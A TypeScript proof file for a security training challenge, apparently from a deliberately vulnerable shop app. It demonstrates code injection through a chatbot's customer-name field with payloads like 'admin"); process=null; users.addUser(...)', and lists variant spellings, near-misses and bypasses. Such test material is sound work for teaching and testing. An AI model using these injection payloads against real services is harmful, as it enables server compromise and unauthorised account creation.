import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const say = (attacker: Attacker, action: string, query: string) =>
  attacker.post('/rest/chatbot/respond', { action, query })

/** Sets a name for a new customer and says hello to the bot. */
const introducedAs =
  (name: string): Attack =>
  async (attacker) => {
    await attacker.becomeCustomer()
    await say(attacker, 'setname', name)
    await say(attacker, 'query', 'hello')
  }

export const proof = prove(challenge, {
  isLasting: true,
  exploit: async (attacker) => {
    await attacker.becomeCustomer()
    await attacker.get('/rest/chatbot/status')
    // A name with a quote breaks the answer, which shows that the name is pasted into code.
    await say(attacker, 'setname', 'Pip"')
    await say(attacker, 'query', 'hello')
    await say(attacker, 'setname', 'admin"); process=null; users.addUser("1337", "test')
    await say(attacker, 'query', 'hello')
  },
  spellings: {
    'with a comment behind it': introducedAs('x"); process = null //'),
    'as something that cannot be called': introducedAs('x"); process = 1; ("'),
    'as a function that fails': introducedAs('x"); process = () => { throw 1 }; ("'),
    'by the global object': introducedAs('x"); globalThis.process = 0; ("'),
    'by a name put together': introducedAs('x"); globalThis["pro" + "cess"] = 0; ("'),
    'inside the call': introducedAs('" + (process = null) + "'),
    'as the third argument': introducedAs('x", process = null, "'),
    'by the user name of the account': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.post('/profile', 'username=x%22%29%3B+process%3Dnull%3B+%28%22', {
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      })
      await say(attacker, 'query', 'hello')
    },
  },
  nearMisses: {
    'an ordinary name': introducedAs('Pip'),
    'a quotation mark that confuses it for this customer alone': introducedAs('Pip"'),
    'a name in quotation marks': introducedAs('Pip "the pip" Apple'),
    'a backslash': introducedAs('Pip\\'),
    'an error of its own': introducedAs('x"); throw 1; ("'),
    'an endless loop': introducedAs('x"); for(;;); ("'),
    'another name of its own': introducedAs('x"); users.names = {}; ("'),
    'the word alone': introducedAs('process=null'),
    'the word behind an apostrophe': introducedAs("x'); process=null; ('"),
    'the attack as something said': async (attacker) => {
      await attacker.becomeCustomer()
      await say(attacker, 'setname', 'Pip')
      await say(attacker, 'query', 'hello')
      await say(attacker, 'query', 'admin"); process=null; users.addUser("1337", "test')
    },
    'the attack, and not a word afterwards': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.get('/rest/chatbot/status')
    },
    'the attack of nobody': (attacker) =>
      say(attacker, 'setname', 'admin"); process=null; users.addUser("1337", "test'),
  },
  bypasses: {
    'escape-quotes': introducedAs('x\\"); process=null //'),
    'leave-out-its-own-names': introducedAs('x"); proprocesscess=null; ("'),
  },
})
